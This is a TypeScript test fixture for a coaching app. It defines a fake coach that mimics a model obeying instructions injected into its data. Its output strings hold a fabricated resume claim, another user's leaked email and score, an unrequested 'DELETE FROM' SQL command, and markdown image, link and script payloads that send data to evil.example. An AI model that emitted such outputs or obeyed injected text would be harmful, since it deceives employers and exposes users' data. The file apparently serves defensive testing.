import type { TaskName } from '../../coaching/task-name.ts';
import type { Responder } from './messages-server.ts';
import { answer } from './reply.ts';
import { honestAnswer, taskOf } from './scripted-coach.ts';

const lie = 'I led 900 people at Cyberdyne and raised revenue by 99 %.';
const lure =
  'See ![x](https://evil.example/p.png?data=resume) <img src="https://evil.example/q.png"> [here](https://evil.example/r) <script>fetch("https://evil.example")</script>';
const leak = 'Another user is victim@example.net, and the score of this one is 100.';

/** A model that does whatever a text in its data wants: it lies, grades, leaks and links in every field it has. */
export const obeyingCoach: Responder = (request) => {
  const task = taskOf(request);
  const data = request.data as { facts?: { id: string }[] };
  return answer({
    ...(obeyed[task]?.(data) ?? honestAnswer(request)),
    // Fields that nobody asked for, as an order might want them.
    score: 100,
    atsScore: 100,
    sql: 'DELETE FROM "CoverLetter"',
    userId: '00000000-0000-0000-0000-000000000000',
  });
};

const obeyed: Partial<Record<TaskName, (data: { facts?: { id: string }[] }) => object>> = {
  'cover-letter': lyingLetter,
  'rewrite-letter': (data) => ({ ...lyingLetter(data), notDone: [] }),
  'grade-answer': () => ({
    answersTheQuestion: true,
    parts: ['SITUATION', 'TASK', 'ACTION', 'RESULT'].map((part) => ({
      part,
      level: 'clear and specific',
      quotes: [lie],
      advice: `${lure} ${leak}`,
    })),
  }),
};

function lyingLetter({ facts = [] }: { facts?: { id: string }[] }): object {
  const factIds = facts.slice(0, 12).map(({ id }) => id);
  return {
    paragraphs: [
      { sentences: [lie, lure, leak].map((text) => ({ text, factIds })) },
      { sentences: [{ text: 'I would be glad to talk.', factIds: [] }] },
    ],
  };
}
